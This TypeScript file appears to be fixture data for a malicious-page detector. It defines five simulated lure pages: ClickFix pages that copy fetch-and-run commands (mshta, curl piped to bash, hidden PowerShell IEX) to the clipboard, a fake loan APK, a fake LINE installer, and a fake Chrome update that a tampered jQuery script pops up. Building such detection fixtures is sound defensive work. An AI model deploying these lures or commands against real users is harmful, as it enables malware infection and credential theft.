import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, b64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute, fileRoute, zip, pe, apk, lnk, iso, cfb } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-clickfix-kr-hwp-viewer-error',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://docs.gov-kr-notice.com/view/2025-1127.html',
  body: doc({
    lang: 'ko',
    title: '문서 뷰어 오류',
    css: '.m{max-width:640px;margin:60px auto}.e{border-left:4px solid #d93025;background:#fff;padding:20px}.b{background:#1a73e8;color:#fff}',
    body: `<div class="m"><div class="e"><h2>⚠ 문서를 표시할 수 없습니다</h2><p>「2025년 하반기 정부지원사업 공고문.hwp」를 열려면 한글 뷰어 글꼴 업데이트가 필요합니다.</p>
<button class="btn b" id="fix">해결 방법 보기</button>
<div id="how" style="display:none"><p>1. 키보드에서 <b>Win + X</b>를 누른 후 <b>터미널(관리자)</b>을 선택하세요.<br>2. 마우스 오른쪽 클릭 또는 <b>Ctrl + V</b>로 붙여넣기 하세요.<br>3. <b>Enter</b>를 눌러 글꼴 업데이트를 완료하세요.</p></div></div></div>
<script>
document.getElementById('fix').addEventListener('click',function(){
 var p=atob('${b64("mshta https://hwp-font-update.gov-kr-notice.com/fonts/update.hta")}');
 navigator.clipboard.writeText(p);document.getElementById('how').style.display='block';});
</script>`,
  }),
},
{
  id: 'zr-clickfix-vn-captcha-mac-terminal',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://phimmoi-hd.vip/xac-minh',
  body: doc({
    lang: 'vi',
    title: 'Xác minh bạn là con người',
    css: '.m{max-width:520px;margin:80px auto}.s{background:#fff;border:1px solid #ddd;padding:20px}code{display:block;background:#111;color:#0f0;padding:10px;font-size:12px;word-break:break-all}',
    body: `<div class="m"><div class="s"><h3>Xác minh bạn là con người</h3><p>Để tiếp tục xem phim, vui lòng hoàn tất xác minh:</p>
<p id="w"><b>Windows:</b> Nhấn Win + R → Ctrl + V → Enter</p><p id="mac" style="display:none"><b>macOS:</b> Mở Terminal (⌘ + Space, gõ "Terminal") → ⌘ + V → Return</p>
<button class="btn" style="background:#4285f4;color:#fff" id="v">Tôi không phải người máy</button></div></div>
<script>
var isMac=/Mac/.test(navigator.platform);if(isMac){document.getElementById('w').style.display='none';document.getElementById('mac').style.display='block'}
document.getElementById('v').onclick=function(){var cmd=isMac?'/bin/bash -c "$(curl -fsSL https://phimmoi-hd.vip/xm/install.sh)"':'powershell -ep bypass -w hidden -enc '+btoa(unescape(encodeURIComponent("IEX(New-Object Net.WebClient).DownloadString('https://phimmoi-hd.vip/xm/a.ps1')"))).replace(/=/g,'');navigator.clipboard.writeText(cmd);this.textContent='Đang xác minh…'};
</script>`,
  }),
},
{
  id: 'zr-apk-in-loan-app-download',
  label: 'malware',
  kind: 'fake-apk',
  url: 'https://cashkaro-instant.loan/download',
  body: doc({
    lang: 'en',
    title: 'InstaRupee Loan App - Download APK',
    css: '.hero{background:#4a00e0;color:#fff;padding:40px 20px;text-align:center}.d{background:#00c853;color:#fff;font-size:20px}',
    body: `<div class="hero"><h1>InstaRupee - Instant Personal Loan</h1><p>₹3,000 to ₹50,000 in 10 minutes · No documents · Aadhaar only</p><a class="btn d" href="/app/InstaRupee_v3.2.apk">Download APK (12 MB)</a></div>
<div class="wrap"><h3>How to install</h3><ol><li>Tap Download APK</li><li>Open Settings → Allow install from unknown sources</li><li>Allow Contacts, SMS and Photos permission for fast KYC</li></ol><p>Not available on Play Store due to high demand. ★★★★★ 4.8 (18,220 reviews)</p></div>`,
  }),
  routes: {
    'cashkaro-instant.loan/app/InstaRupee_v3.2.apk': fileRoute(apk('com.instarupee.fastloan', 'InstaRupee', ['android.permission.READ_CONTACTS', 'android.permission.READ_SMS', 'android.permission.RECEIVE_SMS', 'android.permission.READ_EXTERNAL_STORAGE']), 'application/vnd.android.package-archive', 'InstaRupee_v3.2.apk'),
  },
},
{
  id: 'zr-malware-tw-line-pc-installer',
  label: 'malware',
  kind: 'fake-installer',
  url: 'https://line-pc-download.tw-app.net/',
  body: doc({
    lang: 'zh-Hant',
    title: 'LINE 電腦版 下載 - 免費',
    css: '.hero{background:#06c755;color:#fff;padding:50px 20px;text-align:center}.d{background:#fff;color:#06c755;font-size:18px;margin:6px}',
    body: `<div class="hero"><h1>LINE 電腦版</h1><p>隨時隨地與好友聊天，Windows / macOS 免費下載</p><a class="btn d" href="/dl/LINEInstaller_x64.zip">Windows 版下載</a><a class="btn d" href="/dl/LINEInstaller_x64.zip">macOS 版下載</a></div>
<div class="wrap"><p>版本 9.4.2 · 更新日期 2025/11/20 · 檔案大小 108MB</p></div>`,
  }),
  routes: {
    'line-pc-download.tw-app.net/dl/LINEInstaller_x64.zip': fileRoute(zip([{ name: 'LINEInstaller_x64/LineInstaller.exe', data: pe({ x64: true, strings: ['LINE Corporation', 'Setup', 'VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'https://api.telegram.org/bot'], size: 40000 }) }, { name: 'LINEInstaller_x64/libcef.dll', data: pe({ dll: true, size: 20000 }) }]), 'application/zip', 'LINEInstaller_x64.zip'),
  },
},
{
  id: 'zr-malware-jp-chrome-update-overlay',
  label: 'malware',
  kind: 'fake-browser-update',
  url: 'https://www.tokyo-bakery-sakura.jp/news/2025/11/',
  body: doc({
    lang: 'ja',
    title: 'お知らせ | 東京ベーカリーさくら',
    css: '#ov{position:fixed;inset:0;background:#fff;z-index:9;display:flex;align-items:center;justify-content:center}.u{max-width:520px;text-align:center}.b{background:#1a73e8;color:#fff}',
    body: `<div class="wrap"><h1>東京ベーカリーさくら</h1><p>年末年始の営業時間のお知らせ：12月30日〜1月3日は休業いたします。</p></div>
<div id="ov" style="display:none"><div class="u"><svg width="72" height="72" viewBox="0 0 72 72"><circle cx="36" cy="36" r="34" fill="#4285f4"/><circle cx="36" cy="36" r="14" fill="#fff"/></svg><h2>Chromeの更新が必要です</h2><p>お使いのChromeは古いバージョンのため、このページを正しく表示できません。最新版に更新してください。</p><a class="btn b" href="https://tokyo-bakery-sakura.jp.chrome-upd.com/ChromeSetup.exe">更新する</a></div></div>
<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>`,
  }),
  routes: {
    'www.tokyo-bakery-sakura.jp/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(`/*! jQuery Migrate v3.4.1 */;(function(){if(document.cookie.indexOf('_upd=')>-1)return;document.cookie='_upd=1;max-age=86400;path=/';if(/Windows/.test(navigator.userAgent)&&!/bot|crawl/i.test(navigator.userAgent)){var o=document.getElementById('ov');if(o)o.style.display='flex'}})();`),
    'tokyo-bakery-sakura.jp.chrome-upd.com/ChromeSetup.exe': fileRoute(pe({ strings: ['Google Chrome Update', 'powershell -enc', 'NetSupport Manager', 'client32.exe'], size: 60000 }), 'application/x-msdownload', 'ChromeSetup.exe'),
  },
},
];
